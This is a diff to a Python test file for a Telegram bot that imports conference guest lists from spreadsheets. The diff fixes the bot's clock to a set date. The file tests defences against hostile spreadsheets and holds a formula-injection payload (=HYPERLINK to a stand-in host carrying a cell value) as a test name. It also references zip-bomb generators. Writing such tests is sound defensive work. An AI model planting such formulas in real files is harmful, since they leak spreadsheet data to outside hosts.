@@ -1,5 +1,7 @@
 """Hostile spreadsheets through the real Application: formula-looking names come back as text in every file an
 organiser gets, a guest list over a limit is refused naming it, and reading a big list stalls nobody.
+
+The bot's clock stands at 10:00 on 1/3/2020 in Hà Nội, when both conferences of the seed plan take guest lists.
 """
 
 from __future__ import annotations
@@ -8,6 +10,7 @@ import asyncio
 import datetime as dt
 import io
 import sqlite3
+from collections.abc import AsyncIterator
 from typing import Any
 
 import openpyxl
@@ -17,6 +20,8 @@ from sqlalchemy.engine import make_url
 
 from bench.hostile_spreadsheets import legal_guest_list, many_sheets, wide_row, zip_bomb
 from bot.playground.harness import ChatUser, Playground
+from bot.services import Services
+from bot.settings import Settings
 from rules import accounts, guest_lists
 from rules.plans import SEED_PLAN, apply_plan, load_plan_file
 from rules.text import fold
@@ -25,6 +30,19 @@ from storage.models import Campaign, Conference, Invitation, InvitationImport, N
 DISTRICT = "Hội nghị Điển hình tiên tiến"
 NAME = '=HYPERLINK("http://x/?"&B2,"Bấm")'
 NOTHING_IMPORTED = "\n\nChưa nhập gì. Vui lòng sửa tệp rồi gửi lại."
+
+
+NOW = dt.datetime(2020, 3, 1, 3, 0, tzinfo=dt.UTC)
+
+
+@pytest.fixture
+async def playground(settings: Settings) -> AsyncIterator[Playground]:
+    pg = Playground(lambda: Services.create(settings, clock=lambda: NOW))
+    await pg.start()
+    try:
+        yield pg
+    finally:
+        await pg.stop()
 
 
 @pytest.fixture
@@ -39,7 +57,7 @@ async def _count(playground: Playground, model: Any) -> int:
 
 
 async def _approved_nomination(playground: Playground, **fields: Any) -> None:
-    now = dt.datetime.now(dt.UTC)
+    now = NOW
     async with playground.services.database.transaction() as db:
         nominator = await accounts.ensure_telegram_account(
             db, telegram_user_id=1001, display_name="Lan", username=None, organiser_ids=(), now=now
